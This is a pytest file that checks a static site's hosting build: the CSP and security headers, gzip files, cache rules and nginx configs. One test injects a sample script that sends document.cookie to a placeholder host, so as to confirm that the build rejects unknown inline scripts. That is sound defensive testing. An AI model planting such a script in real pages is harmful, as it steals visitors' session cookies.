"""The site as a host serves it: the files scripts/build/hosting.py adds to a real build, and real nginx on
127.0.0.1 with deploy/nginx/site.conf (started on a free port with its own temp prefix, pid and log,
stopped after). The Nu HTML Checker is in test_html.py; Chromium with the served CSP in test_csp.py."""
from __future__ import annotations

import gzip
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from conftest import ENV, PY, ROOT, content_pages
from serving import (CONFIG, GUIDE_PAGE, HEADERS, assert_every_inline_script_allowed, get, hashed_asset,
                     hosted_copy, inline_scripts, served_csp, sha)

from scripts.build import hosting
from scripts.tools import nginx

pytestmark = pytest.mark.hosting


# --- what the build writes --------------------------------------------------------------------------

def test_build_writes_headers_snippet_and_gzip_files(hosted):
    snippet = (hosted / "_nginx" / "headers.conf").read_text(encoding="utf-8")
    netlify = (hosted / "_headers").read_text(encoding="utf-8")
    csp = served_csp(hosted)
    # the same headers in both files, from deploy/headers.yml: they cannot drift
    for name, value in {"Content-Security-Policy": csp, **HEADERS}.items():
        assert f'add_header {name} "{value}" always;' in snippet, f"{name} missing or different in headers.conf"
        assert f"\n  {name}: {value}\n" in netlify, f"{name} missing or different in _headers"
    assert netlify.count("Cache-Control: " + CONFIG["cache"]["hashed"]) >= 4      # bundle, worker, 2 CSS
    assert f"/{hashed_asset(hosted)}\n  Cache-Control: {CONFIG['cache']['hashed']}" in netlify
    assert "/pdf/belonging-guide.pdf\n  Cache-Control: " + CONFIG["cache"]["downloads"] in netlify
    assert "/stylesheets/guide.css" not in netlify, "our own unhashed CSS must not be cached as immutable"
    texts = [p for p in hosted.rglob("*") if p.is_file() and p.suffix in hosting.TEXT_SUFFIXES]
    assert len(texts) > 50
    for path in texts:
        packed = path.with_name(path.name + ".gz")
        assert packed.is_file(), f"{path.relative_to(hosted)} has no .gz"
        assert gzip.decompress(packed.read_bytes()) == path.read_bytes(), f"{packed} is not {path.name} gzipped"
    assert not list(hosted.rglob("*.pdf.gz")) and not list(hosted.rglob("*.zip.gz"))


def test_csp_is_strict_and_hashes_every_inline_script(hosted):
    csp = served_csp(hosted)
    directives = dict(d.strip().split(" ", 1) if " " in d.strip() else (d.strip(), "") for d in csp.split(";"))
    assert directives["default-src"] == "'none'"
    for name in ("frame-ancestors", "base-uri", "form-action", "object-src"):
        assert directives[name] == "'none'", (name, directives.get(name))
    assert "unsafe" not in directives["script-src"] and "unsafe" not in directives["style-src"]
    assert not re.search(r"https?:|\*", csp), "the CSP allows another host"
    hashes = re.findall(r"'sha256-[A-Za-z0-9+/]+=*'", directives["script-src"])
    assert 3 <= len(hashes) <= 12, hashes       # one __md_scope per page depth, the palette and tab scripts
    assert assert_every_inline_script_allowed(hosted, csp) > 2 * len(content_pages(hosted))


def test_a_template_script_with_another_value_gets_its_hash(site, tmp_path):
    """Hashes come from the pages, not from a list: Material's script with another value in it (another
    page depth or site_url writes another base URL) is recognised and hashed at the next build."""
    copy = hosted_copy(site, tmp_path / "site")
    before = served_csp(copy)
    page = copy / GUIDE_PAGE / "index.html"
    text = page.read_text(encoding="utf-8")
    script = next(s for s in inline_scripts(page) if s.startswith("__md_scope=new URL("))
    changed = re.sub(r'new URL\("[^"]*"', 'new URL("/elsewhere/"', script, count=1)
    page.write_text(text.replace(script, changed), encoding="utf-8")
    assert sha(changed) not in before
    subprocess.run([PY, "-m", "scripts.build.hosting", str(copy)], cwd=ROOT, env=ENV, check=True,
                   capture_output=True)
    assert sha(changed) in served_csp(copy)


@pytest.mark.parametrize("how", ["added", "changed"])
def test_an_unknown_inline_script_stops_make_site(site, tmp_path, how):
    """A script no theme template writes (a page's own, or Material's with code added) is never hashed
    into the policy: hosting.py stops, naming the page and the fix, and writes no policy."""
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    page = copy / GUIDE_PAGE / "index.html"
    text = page.read_text(encoding="utf-8")
    if how == "added":
        text = text.replace("</article>", "<script>fetch('https://t.example/?'+document.cookie)</script></article>", 1)
    else:
        script = inline_scripts(page)[-1]
        text = text.replace(script, script + ";void 0")
    page.write_text(text, encoding="utf-8")
    result = subprocess.run([PY, "-m", "scripts.build.hosting", str(copy)], cwd=ROOT, env=ENV,
                            capture_output=True, text=True)
    assert result.returncode == 1, result.stdout + result.stderr
    assert f"{GUIDE_PAGE}index.html: inline script" in result.stderr, result.stderr
    assert "comes from no known template. Fix:" in result.stderr
    assert not (copy / "_headers").exists(), "a policy was written anyway"


# --- nginx ------------------------------------------------------------------------------------------

def kinds(hosted: Path) -> dict[str, tuple[str, int, str]]:
    """What to ask nginx for: path, expected status, expected Cache-Control."""
    cache = CONFIG["cache"]
    return {
        "page": (GUIDE_PAGE, 200, cache["default"]),
        "home": ("", 200, cache["default"]),
        "hashed asset": (hashed_asset(hosted), 200, cache["hashed"]),
        "hashed stylesheet": (next((hosted / "assets" / "stylesheets").glob("main.*.min.css")).relative_to(hosted)
                              .as_posix(), 200, cache["hashed"]),
        "own asset": ("stylesheets/guide.css", 200, cache["default"]),
        "own script": ("javascripts/guide.js", 200, cache["default"]),
        "search index": ("search/search_index.json", 200, cache["default"]),
        "pdf book": ("pdf/belonging-guide.pdf", 200, cache["downloads"]),
        "pdf handout": ("pdf/handouts/guide-why-rejection-hurts.pdf", 200, cache["downloads"]),
        "offline zip": ("downloads/belonging-guide-offline.zip", 200, cache["downloads"]),
        "unknown page": ("no-such-page/", 404, cache["default"]),
        "unknown pdf": ("pdf/no-such.pdf", 404, cache["default"]),   # the 404 page's own policy
    }


@pytest.mark.parametrize("kind", ["page", "home", "hashed asset", "hashed stylesheet", "own asset", "own script",
                                  "search index", "pdf book", "pdf handout", "offline zip", "unknown page",
                                  "unknown pdf"])
def test_every_header_on_every_kind_of_response(hosted, base, kind):
    path, status, cache = kinds(hosted)[kind]
    got_status, got, body = get(base, path)
    assert got_status == status, (path, got_status)
    expected = {"Content-Security-Policy": served_csp(hosted), **HEADERS}
    for name, value in expected.items():
        assert got.get(name.lower()) == [value], f"/{path}: {name} is {got.get(name.lower())}, expected {value!r}"
    assert got["server"] == ["nginx"], f"server_tokens: {got['server']}"
    assert "x-powered-by" not in got
    assert got.get("cache-control") == [cache], (path, got.get("cache-control"))
    if status == 404:
        assert b"md-content" in body and b"404" in body, f"/{path}: not the site's own 404 page"


def test_404_page_and_host_files(hosted, base):
    for path in ("no-such-page/", "guide/no-such-page/", "404.html", "_headers", "_nginx/headers.conf",
                 "assets/javascripts/no-such.abcdef12.min.js"):
        status, got, body = get(base, path)
        assert status == 404, (path, status)
        assert body == (hosted / "404.html").read_bytes() or path.endswith(".min.js"), path
    status, got, _ = get(base, "guide")
    assert status == 301 and got["location"] == ["/guide/"], (status, got.get("location"))
    status, _, _ = get(base, GUIDE_PAGE, method="POST")
    assert status in (403, 405), status


@pytest.mark.parametrize("path", [GUIDE_PAGE, "", "search/search_index.json", "stylesheets/guide.css",
                                  "javascripts/guide.js", "sitemap.xml"])
def test_gzip_is_served_when_asked_for(hosted, base, path):
    file = hosted / path / "index.html" if path.endswith("/") or path == "" else hosted / path
    status, got, body = get(base, path, {"Accept-Encoding": "gzip, deflate, br"})
    assert status == 200 and got.get("content-encoding") == ["gzip"], (path, got.get("content-encoding"))
    assert "Accept-Encoding" in got.get("vary", [""])[0]
    assert gzip.decompress(body) == file.read_bytes()
    assert len(body) < 0.6 * file.stat().st_size
    status, got, body = get(base, path)
    assert "content-encoding" not in got and body == file.read_bytes(), f"/{path} sent gzip unasked"


def test_pdfs_are_sent_as_they_are(base, hosted):
    status, got, body = get(base, "pdf/belonging-guide.pdf", {"Accept-Encoding": "gzip"})
    assert status == 200 and "content-encoding" not in got and body[:4] == b"%PDF"
    assert got["content-type"] == ["application/pdf"]


def test_make_preview_runs_nginx_in_the_foreground(hosted, tmp_path):
    """scripts/tools/nginx.py as `make preview` runs it: nginx itself in the foreground, stopped by a signal."""
    port = nginx.free_port()
    proc = subprocess.Popen([PY, "-m", "scripts.tools.nginx", str(hosted), str(port)],
                            env={**ENV, "NGINX_PREFIX": str(tmp_path / "preview")}, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True, start_new_session=True)
    try:
        assert "http://127.0.0.1:%d/" % port in proc.stdout.readline()
        for _ in range(100):
            try:
                status, got, _ = get(f"http://127.0.0.1:{port}/", GUIDE_PAGE)
                break
            except OSError:
                import time
                time.sleep(0.05)
        assert status == 200 and got["content-security-policy"] == [served_csp(hosted)]
        assert proc.poll() is None, "preview did not stay in the foreground"
    finally:
        proc.terminate()
        assert proc.wait(timeout=10) is not None
    with pytest.raises(OSError):
        get(f"http://127.0.0.1:{port}/", "")


def test_production_config_passes_nginx_t(hosted, tmp_path):
    """deploy/nginx/production.conf as the comments at its top install it, with a throw-away certificate."""
    conf_dir = tmp_path / "etc-nginx"
    (conf_dir / "belonging-guide").mkdir(parents=True)
    (conf_dir / "logs").mkdir()
    shutil.copy(ROOT / "deploy" / "nginx" / "site.conf", conf_dir / "belonging-guide" / "site.conf")
    shutil.copy(hosted / "_nginx" / "headers.conf", conf_dir / "belonging-guide" / "headers.conf")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj",
                    "/CN=guide.example.org", "-keyout", str(conf_dir / "key.pem"), "-out", str(conf_dir / "cert.pem")],
                   check=True, capture_output=True)
    text = (ROOT / "deploy" / "nginx" / "production.conf").read_text(encoding="utf-8")
    text = text.replace("/etc/letsencrypt/live/guide.example.org/fullchain.pem", str(conf_dir / "cert.pem"))
    text = text.replace("/etc/letsencrypt/live/guide.example.org/privkey.pem", str(conf_dir / "key.pem"))
    assert "include belonging-guide/site.conf;" in text and str(conf_dir) in text
    (conf_dir / "production.conf").write_text(text, encoding="utf-8")
    (conf_dir / "nginx.conf").write_text(
        f"pid {conf_dir / 'nginx.pid'};\nerror_log {conf_dir / 'logs' / 'error.log'};\nevents {{}}\n"
        f"http {{ include {nginx.MIME_TYPES}; access_log off; include production.conf; }}\n", encoding="utf-8")
    result = subprocess.run([nginx.binary(), "-t", "-p", str(conf_dir), "-c", str(conf_dir / "nginx.conf")],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
